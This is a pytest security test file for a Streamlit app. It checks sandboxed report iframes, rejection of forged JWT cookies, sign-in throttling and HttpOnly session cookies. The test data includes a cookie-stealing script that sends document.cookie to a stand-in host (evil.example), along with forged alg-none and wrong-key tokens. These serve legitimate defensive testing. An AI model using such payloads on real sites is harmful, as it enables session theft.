"""The app against an attacker, in AppTest: reports shown sandboxed, forged cookies, sign-in throttling."""

from __future__ import annotations

import base64
import logging
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import jwt
import pytest
import streamlit.runtime.context
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker
from starlette.applications import Starlette
from starlette.routing import Route
from starlette.testclient import TestClient
from streamlit.testing.v1 import AppTest

from netra_app.auth import GENERIC_FAILURE
from netra_app.session_cookie import ROUTE, CookieTickets, compute_set_cookie, session_cookie_route
from netra_core.config import get_settings
from netra_core.db.auth_sessions import hash_token
from netra_core.db.models import AuthSession, Reference, User
from netra_core.db.orgs import fetch_org
from tests.app_helpers import make_app_db, open_app, sign_in

STEALER = "<script>fetch('http://evil.example/?c=' + parent.document.cookie)</script><p>Weekly report</p>"


@pytest.fixture
def sessions() -> Iterator[sessionmaker[Session]]:
    engine, factory = make_app_db([("alice", "acme", "admin"), ("victor", "acme", "viewer")])
    yield factory
    engine.dispose()


class _Frames(HTMLParser):
    """The iframes of a document, with their attributes, and whether any script runs in it."""

    def __init__(self) -> None:
        super().__init__()
        self.frames: list[dict[str, str | None]] = []
        self.scripts = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "iframe":
            self.frames.append(dict(attrs))
        self.scripts += tag == "script"


def test_a_report_is_shown_in_a_sandbox_without_the_apps_origin(
    sessions: sessionmaker[Session], tmp_path: Path
) -> None:
    report = tmp_path / "weekly_cost_report-acme-1.html"
    report.write_text(STEALER, encoding="utf-8")
    with sessions.begin() as s:
        s.add(
            Reference(
                org_id=fetch_org(s, "acme").id,
                name=report.stem,
                kind="report",
                description="rendered",
                payload={"report": "weekly_cost_report", "html_path": str(report)},
            )
        )
    at = sign_in(open_app(), "victor").switch_page("views/reports.py").run()
    at = at.toggle(key=f"show_{report.stem}").set_value(True).run()
    assert not at.exception, at.exception
    frames = [f for f in at.get("iframe") if f.proto.srcdoc]  # (the other frame carries the sign-in cookie)
    assert len(frames) == 1
    outer = _Frames()
    outer.feed(frames[0].proto.srcdoc)  # what runs with the app's origin
    assert outer.scripts == 0
    [inner] = outer.frames
    assert inner["sandbox"] == "allow-scripts"  # charts run; no allow-same-origin, no popups, no navigation
    assert inner["srcdoc"] == STEALER


def is_signed_in(at: AppTest) -> bool:
    return [t.value for t in at.title] == ["Overview"]


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _client(
    monkeypatch: pytest.MonkeyPatch,
    *,
    cookies: dict[str, str] | None = None,
    ip: str = "198.51.100.7",
    headers: list[tuple[str, str]] | None = None,
) -> None:
    """What a browser's connection tells the app (AppTest has no client: its cookies and address are set here)."""
    client = SimpleNamespace(cookies=cookies or {}, remote_ip=ip, headers=headers or [])
    monkeypatch.setattr(streamlit.runtime.context, "_get_client_context", lambda: client)


FORGED = {
    "alg none": _b64(b'{"alg":"none","typ":"JWT"}') + "." + _b64(b'{"username":"alice","exp_date":9999999999}') + ".",
    "garbled": "not-a-token",
    "wrong key": jwt.encode({"username": "alice", "exp_date": 9999999999}, "a" * 40, algorithm="HS256"),
    "no expiry": "{}.{}.".format(_b64(b'{"alg":"HS256"}'), _b64(b'{"username":"alice"}')),
}


@pytest.mark.parametrize("token", FORGED.values(), ids=FORGED.keys())
def test_a_forged_cookie_is_signed_out_without_a_traceback(
    sessions: sessionmaker[Session], monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture, token: str
) -> None:
    _client(monkeypatch, cookies={"netra_auth": token})
    with caplog.at_level(logging.INFO):
        at = open_app()
    assert not at.exception, at.exception
    assert [t.label for t in at.text_input] == ["Username", "Password"]
    assert is_signed_in(at) is False
    assert token not in caplog.text
    # The form still works: the user signs in over the bad cookie.
    at = sign_in(at, "alice")
    assert not at.exception and is_signed_in(at)


def _failures(at: AppTest, username: str, n: int) -> AppTest:
    for _ in range(n):
        at = sign_in(at, username, "not-the-password")
    return at


def _user(sessions: sessionmaker[Session], username: str) -> User:
    with sessions() as s:
        return s.scalars(select(User).where(User.username == username)).one()


def test_one_address_cannot_lock_out_an_admin(sessions: sessionmaker[Session], monkeypatch: pytest.MonkeyPatch) -> None:
    _client(monkeypatch, ip="203.0.113.66")
    attacker = _failures(open_app(), "alice", 5)
    # A new browser session from the same address is the same client: still blocked, even with the password.
    again = sign_in(open_app(), "alice")
    assert [e.value for e in again.error] == [GENERIC_FAILURE] and not is_signed_in(again)
    # Attempts while blocked are not checked and do not count against the account.
    _failures(attacker, "alice", 10)
    assert _user(sessions, "alice").failed_attempts == 5 and _user(sessions, "alice").locked_until is None
    _client(monkeypatch, ip="198.51.100.20")  # alice, from her own address
    assert is_signed_in(sign_in(open_app(), "alice"))
    assert _user(sessions, "alice").failed_attempts == 0


def test_behind_a_local_proxy_the_forwarded_address_is_the_client(
    sessions: sessionmaker[Session], monkeypatch: pytest.MonkeyPatch
) -> None:
    _client(monkeypatch, ip="127.0.0.1", headers=[("X-Forwarded-For", "203.0.113.66")])
    _failures(open_app(), "alice", 5)
    assert not is_signed_in(sign_in(open_app(), "alice"))
    _client(monkeypatch, ip="127.0.0.1", headers=[("X-Forwarded-For", "198.51.100.20")])
    assert is_signed_in(sign_in(open_app(), "alice"))


def test_the_account_lockout_is_a_backstop_that_keeps_live_sessions(
    sessions: sessionmaker[Session], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("NETRA_MAX_FAILED_LOGINS", "3")
    get_settings.cache_clear()
    _client(monkeypatch, ip="198.51.100.20")
    alice = sign_in(open_app(), "alice")
    assert is_signed_in(alice)
    for address in ("203.0.113.1", "203.0.113.2", "203.0.113.3"):  # guessing spread over addresses
        _client(monkeypatch, ip=address)
        _failures(open_app(), "alice", 1)
    assert _user(sessions, "alice").locked_until is not None
    _client(monkeypatch, ip="203.0.113.4")
    assert not is_signed_in(sign_in(open_app(), "alice"))  # new sign-ins wait for the lockout
    _client(monkeypatch, ip="198.51.100.20")
    alice.run()
    assert is_signed_in(alice) and not alice.exception  # the live session goes on
    with sessions() as s:
        live = s.scalars(select(AuthSession).where(AuthSession.revoked_at.is_(None))).all()
        assert len(live) == 1


def test_signing_in_has_the_server_set_an_httponly_cookie_for_the_live_session(sessions: sessionmaker[Session]) -> None:
    at = sign_in(open_app(), "alice")
    [frame] = [f for f in at.get("iframe") if f.proto.src.startswith(ROUTE)]
    server = Starlette(routes=[Route(ROUTE, session_cookie_route)])
    with TestClient(server) as http:
        response = http.get(frame.proto.src)
        assert response.status_code == 200
        header = response.headers["set-cookie"]
        assert "HttpOnly" in header and "SameSite=Strict" in header and "Path=/" in header
        token = header.split(";")[0].removeprefix("netra_auth=")
        with sessions() as s:
            assert s.scalar(select(AuthSession.id).where(AuthSession.token_hash == hash_token(token))) is not None
        assert http.get(frame.proto.src).status_code == 404  # a ticket works once
    at.run()
    assert not [f for f in at.get("iframe") if f.proto.src.startswith(ROUTE)]  # redeemed: the frame goes
    # Signing out has the server clear it.
    at = at.sidebar.button[0].click().run()
    [frame] = [f for f in at.get("iframe") if f.proto.src.startswith(ROUTE)]
    with TestClient(server) as http:
        header = http.get(frame.proto.src).headers["set-cookie"]
    assert header.startswith("netra_auth=;") and "Max-Age=0" in header


def test_cookie_tickets_expire_and_are_single_use() -> None:
    tickets = CookieTickets()
    now = datetime(2026, 12, 1, tzinfo=UTC)
    ticket = tickets.issue("netra_auth", "tok", 60, now)
    assert tickets.redeem("guess", now) is None
    assert tickets.redeem(ticket, now + timedelta(minutes=2)) is None  # too late
    ticket = tickets.issue("netra_auth", "tok", 60, now)
    order = tickets.redeem(ticket, now)
    assert order is not None and tickets.is_redeemed(ticket) and tickets.redeem(ticket, now) is None
    assert compute_set_cookie(order, is_https=True).endswith("; HttpOnly; SameSite=Strict; Secure")
